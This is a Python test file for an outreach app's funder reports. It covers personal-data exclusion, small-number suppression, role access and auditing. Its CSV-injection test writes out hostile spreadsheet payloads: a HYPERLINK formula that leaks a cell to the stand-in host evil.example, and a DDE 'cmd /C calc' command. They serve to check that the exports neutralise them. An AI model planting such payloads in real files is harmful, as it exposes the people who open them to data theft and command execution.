"""Funder reports: aggregate CSVs with no personal data; the participant list for managers, audited."""
import csv
import io
import re
from datetime import datetime, timezone

import pytest
from sqlalchemy import select

from outreach.demo import seed_demo
from outreach.models import AuditLog, Participant, User
from outreach.reports.service import suppress
from tests import factories


@pytest.fixture
def demo_manager(app, db, client):
    """The demo data, and the client signed in as its manager."""
    seed_demo(seed=11)
    manager = db.session.scalar(select(User).where(User.email == "manager@demo.outreach"))
    manager.password_hash = factories.user(None, "manager").password_hash  # the test password
    db.session.commit()
    from tests.conftest import sign_in
    sign_in(client, manager.email)
    return manager


def rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def test_small_numbers_are_suppressed():
    assert [suppress(n) for n in (0, 1, 4, 5, 12)] == ["0", "<5", "<5", "5", "12"]


def test_aggregate_csvs_hold_no_personal_data(db, client, demo_manager):
    downloads = {url: client.get(url) for url in ("/reports/funnel.csv", "/reports/outcomes.csv")}
    participants = db.session.scalars(select(Participant)).all()
    assert len(participants) > 20
    for url, response in downloads.items():
        assert response.status_code == 200 and response.mimetype == "text/csv", url
        assert "attachment" in response.headers["Content-Disposition"]
        text = response.get_data(as_text=True)
        cells = {cell.strip().lower() for row in rows(response) for cell in row}
        digits = re.sub(r"\D", "", text)
        assert len(rows(response)) > 2, url
        for p in participants:
            assert f"{p.first_name} {p.last_name}".lower() not in text.lower(), url
            assert p.first_name.lower() not in cells and p.last_name.lower() not in cells, url
            if p.phone:
                assert p.phone not in text and re.sub(r"\D", "", p.phone) not in digits, url
            if p.email:
                assert p.email.lower() not in text.lower(), url


def test_the_funnel_csv_counts_per_estate_and_month(client, demo_manager):
    table = rows(client.get("/reports/funnel.csv"))
    header, body = table[0], table[1:]
    assert header[:4] == ["estate", "month", "properties", "knocked"] and "signed_up" in header
    assert {r[0] for r in body} >= {"Bidston Rise", "Wellhouse"}
    for r in body:
        assert re.fullmatch(r"\d{4}-\d{2}", r[1])
        assert all(c == "<5" or c.isdigit() for c in r[2:]), r
    outcomes = rows(client.get("/reports/outcomes.csv"))
    assert outcomes[0][:3] == ["estate", "month", "outcome"]
    assert {r[2] for r in outcomes[1:]} <= {"Training started", "Job started", "Progression", "Closed",
                                            "Qualification gained"}


def test_the_participant_list_is_personal_data_for_managers_and_is_audited(db, client, demo_manager):
    response = client.post("/reports/participants.csv", data={"csrf_token": client.csrf})
    assert response.status_code == 200
    assert "PERSONAL-DATA" in response.headers["Content-Disposition"]
    table = rows(response)
    assert table[0][0].startswith("PERSONAL DATA")
    assert table[1][:3] == ["participant_id", "first_name", "last_name"]
    assert len(table) - 2 == db.session.query(Participant).count()
    entry = db.session.scalar(select(AuditLog).where(AuditLog.action == "participants.export"))
    assert entry.user_id == demo_manager.id and f'"rows": {len(table) - 2}' in entry.detail


def test_workers_and_leads_cannot_download_reports(client, world, login_as):
    for role in ("worker", "lead"):
        login_as(role)
        for url in ("/reports/", "/reports/funnel.csv", "/reports/outcomes.csv", "/reports/attendance.csv"):
            assert client.get(url).status_code == 403, (role, url)
        assert client.post("/reports/participants.csv", data={"csrf_token": client.csrf}).status_code == 403
    login_as("manager")
    page = client.get("/reports/")
    assert page.status_code == 200 and "Download the participant list (personal data)" in page.get_data(as_text=True)


def test_the_participant_list_holds_no_contact_details_and_names_whom_to_ask(app, client, world, login_as):
    """Need to know: a manager's list names the caseworker, who (with the lead and admins) sees contact details."""
    from tests.test_participants import signed_up
    login_as("worker")
    signed_up(client, world, email="dee@example.org")  # with consent to contact
    login_as("manager")
    text = client.post("/reports/participants.csv", data={"csrf_token": client.csrf}).get_data(as_text=True)
    assert "Dee" in text and "07700900123" not in text and "07700 900123" not in text
    assert "dee@example.org" not in text
    header, row = [r for r in csv.reader(io.StringIO(text))][1:3]
    assert "phone" not in header and "email" not in header
    assert row[header.index("caseworker")] == world["worker"].name


# What a spreadsheet runs as a formula when a cell starts with it (OWASP, CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CSV_EXPORTS = {"reports.funnel_csv": "GET", "reports.outcomes_csv": "GET", "reports.attendance_csv": "GET",
               "reports.participants_csv": "POST"}


def test_every_csv_export_is_known_to_the_formula_test(app):
    exports = {rule.endpoint for rule in app.url_map.iter_rules() if rule.rule.endswith(".csv")}
    assert exports == set(CSV_EXPORTS), "a new CSV export must be added to the formula-injection test below"


def test_no_csv_export_hands_a_spreadsheet_a_formula(app, db, client, world, login_as):
    from tests.test_participants import signed_up
    payloads = {"estate": '=HYPERLINK("http://evil.example/?"&A1,"Open")', "first": "+SUM(1+1)",
                "last": "@cmd|' /C calc'!A0", "address": "\t=1+2", "postcode": "\r-3+4", "phone": "+447700900123",
                "caseworker": "-2+3 Worker", "venue": "@SUM(1+1) Library"}
    world["estate"].name = payloads["estate"]
    world["door"].address_line1, world["door"].postcode = payloads["address"], payloads["postcode"]
    db.session.commit()
    login_as("worker")
    today = datetime.now(timezone.utc)
    pid = signed_up(client, world, first_name=payloads["first"], last_name=payloads["last"],
                    phone=payloads["phone"], recorded_at=today.strftime("%Y-%m-%dT%H:%M:%SZ"))
    assert client.post(f"/participants/{pid}/stage", data={
        "csrf_token": client.csrf, "stage": "job_started", "occurred_on": today.date().isoformat(),
        "hours_per_week": "16", "evidence": "payslip"}).status_code == 303
    world["worker"].name = payloads["caseworker"]  # who signed them up is their caseworker, named in the list
    venue = factories.venue(world["team"], payloads["venue"])
    factories.attendance(factories.group_session(venue, today.date()), db.session.get(Participant, pid),
                         world["worker"])
    db.session.commit()
    login_as("manager")
    for endpoint, method in CSV_EXPORTS.items():
        url = app.url_map.bind("localhost").build(endpoint)
        response = (client.get(url) if method == "GET" else client.post(url, data={"csrf_token": client.csrf}))
        assert response.status_code == 200 and response.mimetype == "text/csv", endpoint
        cells = [cell for row in rows(response) for cell in row]
        named = "venue" if endpoint == "reports.attendance_csv" else "estate"
        assert "'" + payloads[named] in cells, f"{endpoint}: the {named}'s name is there, made harmless"
        for cell in cells:
            assert not cell.startswith(FORMULA_STARTS), (endpoint, cell)
    personal = client.post("/reports/participants.csv", data={"csrf_token": client.csrf})
    cells = [cell for row in rows(personal) for cell in row]
    for key in ("first", "last", "address", "postcode", "caseworker"):
        assert "'" + payloads[key] in cells, key


TOO_LONG = "A period can be at most 10 years long"
OUT_OF_TIME = "Give a date from 2000 to 2099"


@pytest.mark.parametrize("query, message", [({"from": "0001-01-01"}, OUT_OF_TIME),
                                            ({"from": "2000-01-01", "to": "2026-01-31"}, TOO_LONG),
                                            ({"from": "2012-01-01"}, TOO_LONG),
                                            ({"from": "2026-01-01", "to": "9999-12-31"}, OUT_OF_TIME),
                                            ({"from": "9999-12-01", "to": "9999-12-31"}, OUT_OF_TIME)])
def test_a_period_too_long_or_out_of_time_is_refused_with_a_clear_message(client, world, login_as, query, message):
    login_as("manager")
    for url in ("/reports/", "/reports/funnel.csv", "/reports/outcomes.csv", "/reports/attendance.csv", "/funnel",
                "/funnel/sessions"):
        response = client.get(url, query_string=query)
        assert response.status_code == 422, (url, query)
        assert message in response.get_data(as_text=True), url


def test_a_period_of_the_longest_allowed_span_is_reported(client, world, login_as):
    login_as("manager")
    response = client.get("/reports/funnel.csv", query_string={"from": "2016-12-01", "to": "2026-11-30"})
    assert response.status_code == 200 and rows(response)[0][:2] == ["estate", "month"]



def test_a_column_and_its_total_are_suppressed_by_one_rule_so_no_small_number_can_be_worked_out():
    from outreach.reports.service import HIDDEN, suppress_column
    # One "<5" beside shown numbers and a shown total: 35 - 12 - 20 would give the 3 away, so 12 hides too.
    assert suppress_column([0, 3, 12, 20], 35) == (["0", "<5", HIDDEN, "20"], "35")
    # Two small numbers: only their sum (5) can be worked out, not either one.
    assert suppress_column([3, 2, 12], 17) == (["<5", "<5", "12"], "17")
    # A small total is suppressed like any other count; so are its small rows.
    assert suppress_column([3, 0, 0], 3) == (["<5", "0", "0"], "<5")
    assert suppress_column([3, 0, 0, 0], 3)[1] == "<5"
    assert suppress_column([0, 0], 0) == (["0", "0"], "0")
    assert suppress_column([7, 9], 16) == (["7", "9"], "16")


def test_the_funder_summary_adds_up_to_the_funnel_of_the_same_period(db, demo_manager):
    from outreach.clock import local_today
    from outreach.funnel.service import FunnelFilters, default_period, funnel
    from outreach.reports.service import funder_summary
    start, end = default_period(local_today())
    period = FunnelFilters(date_from=start, date_to=end)
    summary = funder_summary(period)
    whole = funnel(period, with_trend=False)
    for key in ("signed_up", "active"):
        assert summary.by_status.total[key] == summary.by_source.total[key] == whole[key] > 0, key
    assert summary.by_status.total["any_outcome"] == whole["outcome"]
    assert summary.by_status.total["three"] == whole.three_sessions
    for stage in ("training_started", "job_started", "progression"):
        assert summary.by_status.total[stage] == whole[stage], stage
    assert summary.figures["properties"] == whole["properties"]
    assert summary.shown("properties") == f"{whole['properties']:,}", "doors are shown in full"
    assert set(summary.estates) >= {"Bidston Rise", "Wellhouse"}


def test_the_summary_page_is_one_printable_page_of_suppressed_counts_with_totals(app, db, client, demo_manager):
    from flask import template_rendered
    seen = []

    def rendered(sender, template, context, **extra):
        seen.append(template.name)
    reports = client.get("/reports/").get_data(as_text=True)
    link = re.search(r'href="(/reports/summary\?[^"]+)"', reports).group(1).replace("&amp;", "&")
    with template_rendered.connected_to(rendered, app):
        response = client.get(link)
    html = response.get_data(as_text=True)
    assert response.status_code == 200 and "reports/summary.html" in seen
    assert "Figures cover <strong>" in html and "(last 12 months)" in html
    assert html.count("<th scope=\"row\">Total</th>") == 2 and "css/summary.css" in html
    cells = re.findall(r'<td class="num">([^<]*)</td>', html)
    assert len(cells) > 40
    assert all(c in ("0", "&lt;5", "[c]") or (c.isdigit() and int(c) >= 5) for c in cells), cells
    for p in db.session.scalars(select(Participant)):
        assert f"{p.first_name} {p.last_name}" not in html


def test_workers_and_leads_cannot_open_the_summary(client, world, login_as):
    for role in ("worker", "lead"):
        login_as(role)
        assert client.get("/reports/summary").status_code == 403, role
